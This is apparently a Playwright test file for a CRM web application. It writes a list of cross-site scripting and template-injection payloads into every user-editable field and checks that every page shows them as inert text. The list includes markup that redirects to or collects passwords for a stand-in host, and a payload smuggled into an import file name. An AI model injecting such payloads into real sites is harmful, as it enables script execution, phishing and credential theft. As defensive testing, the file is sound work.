"""Attacks A15 and A18: scripts and markup in everything people can write, on every page: shown as text, run nowhere.

The file comes last of its folder: what it writes stays in the installation.
"""

from collections.abc import Iterator
from itertools import cycle
from typing import Any

import pytest
from playwright.sync_api import APIRequestContext, Page, expect

from tests.web.conftest import Office
from tests.web.test_accessibility import GO, NOWHERE, PAGES

RUNS = "ran=1"
PAYLOADS = [
    f"<script>{RUNS}</script>",
    f"<img data-evil src=x onerror={RUNS}>",
    f"<svg data-evil onload={RUNS}>",
    f'"><b data-evil onmouseover={RUNS}>x</b>',
    f"'><i data-evil autofocus onfocus={RUNS} tabindex=1>x</i>",
    f"</textarea><em data-evil>x</em><script>{RUNS}</script>",
    f"</title><script data-evil>{RUNS}</script>",
    f"<iframe data-evil srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    f"<a data-evil href=javascript:{RUNS}>x</a>",
    f"[x](javascript:{RUNS})",
    f"javascript:{RUNS}",
    f"<details data-evil open ontoggle={RUNS}>x",
    f"<math><mi data-evil xlink:href=javascript:{RUNS}>x",
    f"<video data-evil><source onerror={RUNS}></video>",
    f"<style data-evil>*{{background:url(javascript:{RUNS})}}</style>",
    "<style data-evil>body{display:none}</style>",
    "<base data-evil href=//evil.example.test/>",
    "<meta data-evil http-equiv=refresh content=0;url=//evil.example.test>",
    "<form data-evil action=//evil.example.test><input name=password></form>",
    "<link data-evil rel=stylesheet href=//evil.example.test/a.css>",
    f"{{{{constructor.constructor('{RUNS}')()}}}}",
    f"${{{RUNS}}}",
    f"<%= {RUNS} %>",
    f"$t(x, {{'a': '{RUNS}'}})",
    f"{{{{- {RUNS} }}}}",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    f"\u003cscript\u003e{RUNS}\u003c/script\u003e",
    f"<scr\u200bipt>{RUNS}</scr\u200bipt>",
    f"＜script＞{RUNS}＜/script＞",
    f"--><!--<b data-evil>{RUNS}</b>-->",
]
WATCH = """
    window.refused = [];
    document.addEventListener('securitypolicyviolation', (event) => window.refused.push(`${event.violatedDirective} ${event.blockedURI}`));
"""
FAULTS = """() => [
    ...(window.ran ? ['something ran'] : []),
    ...window.refused.splice(0),
    ...[...document.querySelectorAll('[data-evil], iframe')].map((node) => node.outerHTML.slice(0, 200)),
]"""


class Writer:
    """Writes the payloads, one after the other, wherever it is told to."""

    def __init__(self, ask: APIRequestContext, origin: str) -> None:
        self.ask, self.headers = ask, {"Origin": origin}
        self.payloads = cycle(PAYLOADS)

    def next(self) -> str:
        return next(self.payloads)

    def send(self, path: str, method: str = "POST", **body: Any) -> Any:
        answer = self.ask.fetch(f"/api/v1/{path}", method=method, data=body, headers=self.headers)
        assert answer.ok, f"{method} {path} {body}: {answer.text()}"
        return answer.json() if answer.text() else None


@pytest.fixture
def written(office: Office) -> Iterator[tuple[Page, dict[str, str]]]:
    """A page of the owner, and ids of records that carry payloads in all their texts."""
    with office.context() as context:
        writer = Writer(context.request, office.site.base)
        ids = write_everywhere(writer)
        page = context.new_page()
        page.add_init_script(WATCH)
        yield page, ids
        writer.send("access/workspace", "PATCH", name="Test shop")
        writer.send("session/me", "PATCH", name="Olivia Owner")


def write_everywhere(writer: Writer) -> dict[str, str]:
    text = writer.next
    customers = []
    for number in range(len(PAYLOADS)):
        own = {"remark": text(), "level": text()[:60]}
        told = {name: text()[:60] for name in ("city", "province", "stage", "class")}
        customers.append(writer.send("customers", name=text(), phones=[f"1398{number:07d}"], custom=own, **told)["id"])
    customer, about = customers[0], {"object": "customer", "object_id": customers[0]}
    day = {"starts": "2026-05-04T10:00:00", "ends": "2026-05-04T11:00:00"}
    for number in range(10):
        writer.send(f"collaboration/records/customer/{customer}/notes", text=text())
        writer.send("collaboration/tasks", title=text(), **about)
        writer.send("collaboration/meetings", title=text(), **day, place=text(), records=[about])
        writer.send("customers/tags", name=f"{number}{text()}"[:40])
        writer.send("customization/views", object="customer", name=text()[:60])
        writer.send("access/teams", name=text())
        writer.send("access/roles", name=text(), permissions=[], rows={})
        writer.send("customization/objects/customer/fields", kind="text", zh=text()[:60], en=text()[:60])
    kept = {}
    for name in ("organization/stores", "organization/regions", "catalog/categories", "catalog/products"):
        kept[name] = writer.send(name, code=f"evil-{name[-6:]}", name=text())["id"]
    company = writer.send("companies", name=text())["id"]
    lines = [{"name": text(), "quantity": "1", "unit_price": "1.00"}]
    order = writer.send("commerce/orders", customer_id=customer, currency="GBP", lines=lines, note=text())["id"]
    headers = {**writer.headers, "Content-Type": "application/octet-stream"}
    content = f"Name,{text()}\n{text()},x\n".replace('"', "'")
    name = "%3Cimg%20data-evil%20src=x%20onerror=ran=1%3E.csv"
    draft = writer.ask.post(f"/api/v1/imports/files?name={name}", data=content, headers=headers)
    assert draft.ok, draft.text()
    segment = writer.send("segments", name=text()[:60], kind="static", description=text())["id"]
    count = {"value": {"relation": "commerce.order", "is": "count"}}
    writer.send(f"quality/customers/{customer}/look")
    writer.send("portraits/traits", key="evil", label={"zh": text()[:60], "en": text()[:60]}, definition=count)
    writer.send("tracking/sources", kind="server", name=text()[:60])
    form = write_form(writer)
    writer.send("access/workspace", "PATCH", name=text())
    writer.send("session/me", "PATCH", name=text())
    return {
        "form": form,
        "customer": customer,
        "user": writer.ask.get("/api/v1/session").json()["user"]["id"],
        "segment": segment,
        "order": order,
        "company": company,
        "store": kept["organization/stores"],
        "product": kept["catalog/products"],
        "draft": draft.json()["id"],
        "import": draft.json()["id"],
    }


def write_form(writer: Writer) -> str:
    """A published form whose every word is a payload."""
    text = writer.next
    wording = {"purpose": "marketing", "channel": "any", "language": "en"}
    writer.send("consents/texts", **wording, body=text())
    asked = [{"key": kind, "kind": kind, "label": text(), "help": text()} for kind in ("text", "long_text", "section")]
    options = [{"key": f"option_{number}", "label": text()} for number in range(3)]
    chosen = {"key": "choice", "kind": "choice", "label": text(), "options": options}
    words = {"title": text(), "intro": text(), "thanks": {"kind": "text", "text": text()}}
    form = writer.send("forms", name=text()[:60], definition={**words, "fields": [*asked, chosen]})
    writer.send(f"forms/{form['id']}/publish", version=form["version"])
    return str(form["id"])


@pytest.mark.withstands("A15", "A18")
def test_what_people_wrote_is_text_on_every_page(written: tuple[Page, dict[str, str]]) -> None:
    page, ids = written
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto("/customers")
    expect(page.get_by_text(f"<script>{RUNS}</script>").first).to_be_visible()
    faults = {}
    for name, (path, _) in PAGES.items():
        page.evaluate(GO, NOWHERE)
        page.get_by_test_id("not-found").wait_for()
        page.evaluate(GO, path.format(**ids).replace("q=178", "q=ran"))
        expect(page.get_by_test_id("not-found")).to_have_count(0)
        expect(page.locator("[data-testid=skeleton]")).to_have_count(0)
        if found := page.evaluate(FAULTS):
            faults[name] = found
    assert faults == {} and dialogs == []
